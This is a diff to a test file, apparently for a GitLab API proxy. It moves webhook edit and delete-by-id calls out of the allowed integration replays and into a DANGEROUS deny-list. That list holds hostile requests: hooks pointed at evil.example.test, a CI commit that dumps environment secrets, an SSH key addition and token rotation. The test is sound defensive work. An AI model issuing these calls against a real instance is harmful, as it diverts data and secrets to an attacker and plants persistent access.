@@ -170,8 +170,6 @@ const REPLAY: Record<string, Call[]> = {
     call('GET /api/v4/groups?min_access_level=30'),
     call('GET /api/v4/projects/3/hooks'),
     call('POST /api/v4/projects/3/hooks', { url: 'https://integrations.zoom.example.test/gitlab', push_events: true, merge_requests_events: true, token: webhookSecret }),
-    call('PUT /api/v4/projects/3/hooks/12', { url: 'https://integrations.zoom.example.test/gitlab', issues_events: true }),
-    call('DELETE /api/v4/projects/3/hooks/12'),
   ],
   echoes: [
     call('GET /api/v4/user'),
@@ -191,8 +189,6 @@ const REPLAY: Record<string, Call[]> = {
     call('DELETE /api/v4/groups/100/labels/31'),
     call('GET /api/v4/groups/100/hooks'),
     call('POST /api/v4/groups/100/hooks', { url: 'https://api.echoes.example.test/gitlab', merge_requests_events: true, token: webhookSecret }),
-    call('PUT /api/v4/groups/100/hooks/12', { url: 'https://api.echoes.example.test/gitlab', push_events: true }),
-    call('DELETE /api/v4/groups/100/hooks/12'),
     call(`GET ${P}`),
     call(`GET ${P}/users`),
     call(`GET ${P}/merge_requests?state=merged`),
@@ -207,8 +203,6 @@ const REPLAY: Record<string, Call[]> = {
     call(`GET ${P}/repository/tags`),
     call(`GET ${P}/hooks`),
     call(`POST ${P}/hooks`, { url: 'https://api.echoes.example.test/gitlab', merge_requests_events: true, token: webhookSecret }),
-    call(`PUT ${P}/hooks/13`, { url: 'https://api.echoes.example.test/gitlab', push_events: false }),
-    call(`DELETE ${P}/hooks/13`),
   ],
   calero: [
     call('GET /api/v4/user'),
@@ -231,7 +225,6 @@ const REPLAY: Record<string, Call[]> = {
     call('GET /api/v4/projects/acme%2Fdocs/repository/tree'),
     call('POST /api/v4/projects/acme%2Fdocs/hooks', { url: 'https://n8n.calero.example.test/webhook/gitlab', issues_events: true, token: webhookSecret }),
     call('GET /api/v4/projects/acme%2Fdocs/hooks/14'),
-    call('DELETE /api/v4/projects/acme%2Fdocs/hooks/14'),
   ],
   renovate: RENOVATE,
   'renovate-automerge': [...RENOVATE, ...RENOVATE_AUTOMERGE],
@@ -266,7 +259,6 @@ const REPLAY: Record<string, Call[]> = {
     call(`GET ${P}/repository/files/src%2Fmain.ts?ref=main`),
     call(`GET ${P}/repository/files/src%2Fmain.ts/blame?ref=main`),
     call(`POST ${P}/hooks`, { url: 'https://sentry.example.test/extensions/gitlab/webhook/', push_events: true, merge_requests_events: true, token: webhookSecret }),
-    call(`DELETE ${P}/hooks/15`),
   ],
 };
 
@@ -302,6 +294,8 @@ const DANGEROUS: (Call & { why: string })[] = [
   { why: 'add a system hook', ...call('POST /api/v4/hooks', { url: 'https://evil.example.test' }) },
   { why: 'change instance settings', ...call('PUT /api/v4/application/settings', { signup_enabled: true }) },
   { why: 'read the instance license', ...call('GET /api/v4/license') },
+  { why: 'delete a webhook by id (maybe another team\'s)', ...call(`DELETE ${P}/hooks/13`) },
+  { why: 're-point a webhook by id', ...call(`PUT ${P}/hooks/13`, { url: 'https://evil.example.test/' }) },
   { why: 'commit a CI configuration', ...call(`POST ${P}/repository/files/.gitlab-ci.yml`, { branch: 'main', content: 'x: {script: env}', commit_message: 'ci' }) },
   { why: 'rotate a project access token', ...call(`POST ${P}/access_tokens/self/rotate`) },
   { why: 'add an SSH key to the proxy user', ...call('POST /api/v4/user/keys', { title: 'x', key: 'ssh-ed25519 AAAA' }) },
